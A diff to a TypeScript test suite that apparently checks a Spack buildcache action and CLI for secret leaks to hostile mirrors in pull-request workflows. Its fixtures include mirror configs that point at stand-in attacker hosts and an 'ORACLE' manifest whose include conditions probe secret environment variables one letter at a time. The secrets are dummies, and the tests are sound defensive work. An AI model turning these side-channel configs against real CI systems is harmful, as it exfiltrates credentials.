@@ -2,6 +2,7 @@
  * A workspace as a stranger's pull request leaves it: mirrors, includes, lists, redirects and token endpoints that want
  * what the machine has. Every request of a run goes through one recording proxy; the table says which host got which secret.
  */
+import { execFileSync } from 'node:child_process';
 import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
 import { createServer as createPlain, type IncomingMessage, type ServerResponse } from 'node:http';
 import { createServer as createSecure } from 'node:https';
@@ -12,7 +13,8 @@ import { afterEach, expect, test, vi } from 'vitest';
 import { makeCertificate } from '../harness/certificate.ts';
 import { startJob } from '../harness/runner.ts';
 import { tempDir } from '../harness/temp-dir.ts';
-import { environmentOf, fromSource, ROOT } from './shows.ts';
+import { unpackStore } from '../package/store-fixture.ts';
+import { buildcache, environmentOf, fromSource, ROOT } from './shows.ts';
 
 /** What the machine has. Each is unlike all others, also in base64. */
 const SECRETS: Readonly<Record<string, string>> = {
@@ -26,11 +28,13 @@ const SECRETS: Readonly<Record<string, string>> = {
   'the Google token': 'ya29-google-tok-4b',
   'the Google refresh token': 'google-refresh-c0',
   'the docker password': 'docker-pass-f5d3',
+  'the one with an odd name': 'odd-7b1e-value',
 };
 
 const HOSTS = [
   ...['evil.example', 'token.evil.example', 'mirror.good.example', 'registry.good.example', 'ghcr.io'],
   ...['oauth2.googleapis.com', 'storage.googleapis.com', 'evil.execute-api.us-east-1.amazonaws.com'],
+  ...['api.github.com', 'yes.evil.example', 'odd.evil.example'],
 ];
 
 interface Seen {
@@ -89,6 +93,7 @@ function answer(host: string, path: string, response: ServerResponse): void {
     return void response.writeHead(401, { 'www-authenticate': challenge }).end();
   }
   if (path.startsWith('/token')) return void json({ token: 'of-nobody' });
+  if (host === 'api.github.com') return void json([]);
   const to = REDIRECTS.find(([from]) => path.startsWith(from))?.[1];
   if (to !== undefined) return void response.writeHead(302, { location: to }).end();
   response.writeHead(404).end();
@@ -141,20 +146,22 @@ const GOOD = 'good: {url: "https://mirror.good.example/good", access_token_varia
 const FORBIDDEN = /(?:ACTIONS_RUNTIME|SIGNING_PASSPHRASE}|INPUT_GITHUB|: GITHUB_TOKEN|AWS_SECRET)/;
 
 // Twenty mirrors of all kinds, on a machine that may be busy.
-vi.setConfig({ testTimeout: 60_000 });
+vi.setConfig({ testTimeout: 240_000 });
 
 const authorities = tls.getCACertificates('default');
 afterEach(() => tls.setDefaultCACertificates(authorities));
 
-async function run(event: string, inputs: Readonly<Record<string, string>>, manifest = PULL_REQUEST) {
-  const world = await startWorld();
-  tls.setDefaultCACertificates([...authorities, world.ca]);
-  await using dir = await tempDir();
-  const env = join(dir.path, 'env');
+/** What the machine has, and the checkout beside it. */
+function furnish(folder: string, manifest: string): void {
+  const env = join(folder, 'env');
   mkdirSync(join(env, 'more'), { recursive: true });
   cpSync(join(environmentOf('1.2'), 'spack.lock'), join(env, 'spack.lock'));
   writeFileSync(join(env, 'spack.yaml'), manifest);
   writeFileSync(join(env, 'more/mirrors.yaml'), manifest === PULL_REQUEST ? INCLUDED : '');
+  for (const name of ['yes', 'odd']) {
+    mkdirSync(join(env, name));
+    writeFileSync(join(env, name, 'mirrors.yaml'), `mirrors: {${name}: "https://${name}.evil.example/"}\n`);
+  }
   const hashes = [...'abc'].map((letter) => letter.repeat(32));
   const entry = (mirror: string, hash: string) =>
     `${mirror}/v3/manifests/spec/a/a-1-${hash}.spec.manifest.json`;
@@ -164,19 +171,43 @@ async function run(event: string, inputs: Readonly<Record<string, string>>, mani
     'http://localhost:8125',
   ].entries()) {
     const hash = hashes[i] ?? '';
-    const list = { [hash]: { src: entry(at, hash), dest: entry(`file://${dir.path}/to`, hash) } };
-    writeFileSync(join(dir.path, `list-${i}.json`), JSON.stringify(list));
+    const list = { [hash]: { src: entry(at, hash), dest: entry(`file://${folder}/to`, hash) } };
+    writeFileSync(join(folder, `list-${i}.json`), JSON.stringify(list));
   }
-  const docker = join(dir.path, 'docker');
+  const docker = join(folder, 'docker');
   mkdirSync(docker);
   const auth = Buffer.from(`me:${SECRETS['the docker password']}`).toString('base64');
   writeFileSync(
     join(docker, 'config.json'),
     JSON.stringify({ auths: { 'registry.good.example': { auth } } }),
   );
-  const google = join(dir.path, 'google.json');
+  const google = join(folder, 'google.json');
   const user = { client_id: 'i', client_secret: 's', refresh_token: SECRETS['the Google refresh token'] };
   writeFileSync(google, JSON.stringify({ type: 'authorized_user', ...user }));
+}
+
+function secretVariables(proxy: string, folder: string): Record<string, string> {
+  return {
+    ODD: SECRETS['the one with an odd name'] ?? '',
+    http_proxy: proxy,
+    https_proxy: proxy,
+    MIRROR_TOKEN: SECRETS['the mirror token'] ?? '',
+    GITHUB_TOKEN: SECRETS['the GitHub token'] ?? '',
+    BUILDCACHE_SIGNING_PASSPHRASE: SECRETS['the signing passphrase'] ?? '',
+    AWS_ACCESS_KEY_ID: 'AKIA1',
+    AWS_SECRET_ACCESS_KEY: SECRETS['the AWS secret'] ?? '',
+    AWS_SESSION_TOKEN: SECRETS['the AWS session'] ?? '',
+    AWS_REGION: 'us-east-1',
+    GOOGLE_APPLICATION_CREDENTIALS: join(folder, 'google.json'),
+    DOCKER_CONFIG: join(folder, 'docker'),
+  };
+}
+
+async function run(event: string, inputs: Readonly<Record<string, string>>, manifest = PULL_REQUEST) {
+  const world = await startWorld();
+  tls.setDefaultCACertificates([...authorities, world.ca]);
+  await using dir = await tempDir();
+  furnish(dir.path, manifest);
   await using job = await startJob({
     workspace: dir.path,
     here: fromSource,
@@ -186,19 +217,7 @@ async function run(event: string, inputs: Readonly<Record<string, string>>, mani
       ACTIONS_RUNTIME_TOKEN: SECRETS['the runtime token'] ?? '',
       ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRETS['the identity request token'] ?? '',
     },
-    env: {
-      http_proxy: world.url,
-      https_proxy: world.url,
-      MIRROR_TOKEN: SECRETS['the mirror token'] ?? '',
-      GITHUB_TOKEN: SECRETS['the GitHub token'] ?? '',
-      BUILDCACHE_SIGNING_PASSPHRASE: SECRETS['the signing passphrase'] ?? '',
-      AWS_ACCESS_KEY_ID: 'AKIA1',
-      AWS_SECRET_ACCESS_KEY: SECRETS['the AWS secret'] ?? '',
-      AWS_SESSION_TOKEN: SECRETS['the AWS session'] ?? '',
-      AWS_REGION: 'us-east-1',
-      GOOGLE_APPLICATION_CREDENTIALS: google,
-      DOCKER_CONFIG: docker,
-    },
+    env: secretVariables(world.url, dir.path),
   });
   const result = await job.uses(ROOT, {
     with: {
@@ -213,14 +232,20 @@ async function run(event: string, inputs: Readonly<Record<string, string>>, mani
     },
   });
   world.close();
+  return { result, got: tableOf(world.seen) };
+}
+
+/** Which host got what, shown as well. */
+function tableOf(seen: readonly Seen[]): Record<string, string> {
   const table = new Map<string, Set<string>>();
-  for (const { origin, secrets } of world.seen) {
+  for (const { origin, secrets } of seen) {
     table.set(origin, new Set([...(table.get(origin) ?? []), ...secrets]));
   }
   const got = Object.fromEntries(
     [...table].map(([origin, names]) => [origin, [...names].sort().join(', ') || 'none']),
   );
-  return { result, got };
+  console.table(got);
+  return got;
 }
 
 /** Ours: the mirror the workflow names, whoever the machine is logged in with, and Google's own token service. */
@@ -284,3 +309,85 @@ test('copy-lists lead to no address of this machine, even where they may name an
   expect(got).toEqual({});
   expect(JSON.stringify(result.annotations)).toMatch(/leads to an address of this machine/);
 });
+
+test.each([
+  { command: 'plan', 'on-unknown': 'rebuild' },
+  { command: 'explain' },
+  { command: 'install', 'install-tree': 'tree' },
+  { explain: 'true', comment: 'true' },
+])('what else reads mirrors on pull_request_target tells no secret either: %o', async (inputs) => {
+  const { got } = await run('pull_request_target', inputs);
+  const { 'https://api.github.com': github = 'the GitHub token', ...others } = got;
+  expect(github).toBe('the GitHub token'); // its own, for the comment
+  const told = Object.entries(others).filter(([origin, secrets]) => {
+    return secrets !== 'none' && secrets !== Reflect.get(OWN, origin);
+  });
+  expect(told).toEqual([]);
+  expect(got['https://mirror.good.example']).toBe('the mirror token');
+});
+
+/** Which mirrors are asked answers a question: such files spell a secret out, a condition for each letter. */
+const ORACLE = `
+spack:
+  include:
+  - {path: yes, when: "env['MIRROR_TOKEN'].startswith('m')"}
+  - {path: yes, when: "'INPUT_GITHUB-TOKEN' in env"}
+  - {path: yes, when: "env.get('AWS_SECRET_ACCESS_KEY', '') != ''"}
+  - {path: odd, when: "env['ODD'].startswith('odd')"}
+  mirrors: {}
+`;
+
+test.each([
+  ['pull_request_target', undefined],
+  // Of a name that says nothing only its owner knows that it is one: there are no such on a fork's own event.
+  ['pull_request', 'none'],
+])('on %s no condition of an include asks for a secret', async (event, odd) => {
+  const { got } = await run(event, { retries: '0' }, ORACLE);
+  expect(got['https://yes.evil.example']).toBeUndefined();
+  expect(got['https://odd.evil.example']).toBe(odd);
+  expect(got['https://mirror.good.example']).toBe('the mirror token');
+});
+
+test.each([
+  ['check'],
+  ['list'],
+  ['install', '--store', 'tree', '-u', '-o', '--no-lock'],
+  ['explain', '--against', 'git:HEAD:env/spack.lock'],
+  ['plan', '--chunk', 'a'.repeat(32), '--store', 'tree'],
+  ['plan'],
+])('on the command line, %s with --only-mirrors speaks to no other', async (...verb) => {
+  const got = await onCommandLine([
+    ...[...verb, '-e', 'env', '--mirrors', 'good.yaml', '--only-mirrors', 'https://mirror.good.example/good'],
+  ]);
+  const { 'https://mirror.good.example': good, 'https://evil.example': led = 'none', ...others } = got;
+  expect({ led, others }).toEqual({ led: 'none', others: {} });
+  expect(good ?? 'the mirror token').toBe('the mirror token');
+});
+
+test('a base image gets what is for its own host', async () => {
+  const got = await onCommandLine([
+    ...['push', 'oci://registry.good.example/o/n', '-e', 'env', '--store', 'tree', '-u', '--allow-missing'],
+    ...['--base-image', 'evil.example/n1/base:1'],
+  ]);
+  expect(got['https://registry.good.example'] ?? 'the docker password').toBe('the docker password');
+  expect(got['https://evil.example'] ?? 'none').toBe('none');
+  expect(got['https://token.evil.example'] ?? 'none').toBe('none');
+});
+
+/** The same checkout, as somebody's who has all of this in his shell. */
+async function onCommandLine(args: readonly string[]): Promise<Record<string, string>> {
+  const world = await startWorld();
+  tls.setDefaultCACertificates([...authorities, world.ca]);
+  await using dir = await tempDir();
+  furnish(dir.path, PULL_REQUEST);
+  unpackStore('1.2', join(dir.path, 'tree'));
+  writeFileSync(join(dir.path, 'good.yaml'), `mirrors:\n  ${GOOD}\n`);
+  const git = (...all: string[]) => execFileSync('git', all, { cwd: dir.path, stdio: 'ignore' });
+  git('init', '-q');
+  git('add', 'env');
+  git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'a');
+  const env = { PATH: process.env['PATH'] ?? '', HOME: dir.path, ...secretVariables(world.url, dir.path) };
+  await buildcache([...args, '--timeout', '5', '--retries', '0'], { cwd: dir.path, env });
+  world.close();
+  return tableOf(world.seen);
+}
